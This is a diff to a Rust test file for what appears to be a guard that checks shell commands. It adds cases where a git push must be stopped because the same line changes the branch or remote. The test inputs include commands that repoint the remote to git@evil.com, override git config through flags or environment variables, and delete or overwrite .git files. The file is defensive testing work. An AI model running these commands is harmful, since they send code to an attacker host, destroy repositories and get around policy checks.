@@ -182,8 +182,15 @@ fn the_branch_of_a_directory_that_the_line_makes_is_unreadable() {
             "cp f .git/worktrees/x/HEAD && git push",
             "cp f .git/worktrees/x.git/HEAD && git push",
             "cp f \".git/$X\" && git push",
+            "cp f .gi?/HEAD && git push",
+            "rm -rf .g* && git push",
+            "mv f .[g]it/HEAD && git push",
+            "echo 'ref: refs/heads/main' > .git/refs/heads/topic && git push",
+            "echo x > .git/commondir && git push",
         ],
         &[
+            "rm -rf .e* && git push",
+            "rm -f build/*.o && git push",
             "cd ../m && git push",
             "mkdir -p a && cd a && git push",
             "touch a/b && cd a && git push",
@@ -193,6 +200,46 @@ fn the_branch_of_a_directory_that_the_line_makes_is_unreadable() {
             "git checkout -- . && git push",
             "find . -name '*.o' -delete && git push",
             "git push; rm -rf .git",
+        ],
+    );
+}
+
+#[test]
+fn the_remote_is_unreadable_if_the_line_may_change_it() {
+    rules(
+        "[[rule]]\nid = \"r\"\non = \"shell\"\nprogram = \"git push\"\nwhen = 'git.remote != \"good\"'\nreject = \"no\"\n",
+    );
+    set("git.remote", facts::Fact::Text("good".into()));
+    set("git.branch", facts::Fact::Text("main".into()));
+    set("path.exists", facts::Fact::Flag(true));
+    stops_and_passes(
+        &[
+            "git remote set-url origin git@evil.com:x && git push",
+            "git remote rm origin; git remote add origin git@evil.com:x; git push",
+            "git config remote.origin.url git@evil.com:x && git push",
+            "git config --global url.git@evil.com:.insteadOf git@good.com:; git push",
+            "git -c remote.origin.url=git@evil.com:x push",
+            "git -c URL.git@evil.com:.insteadOf=git@good.com: push",
+            "git -c include.path=x push",
+            "git -c \"$X\" push",
+            "git --config-env=remote.origin.url=X push",
+            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=x git push",
+            "GIT_CONFIG_GLOBAL=x git push",
+            "export GIT_CONFIG_PARAMETERS=x; git push",
+            "GIT_DIR=../m/.git git push",
+            "git --git-dir=../m/.git push",
+            "git switch topic && git push",
+            "gh repo fork && git push",
+            "echo x > .git/config && git push",
+            "sed -i s/a/b/ .git/config; git push",
+        ],
+        &[
+            "git push",
+            "git commit -m x && git push",
+            "git -c user.name=x push",
+            "git -C . push",
+            "git remote -v && git push",
+            "git push; git remote set-url origin x",
         ],
     );
 }
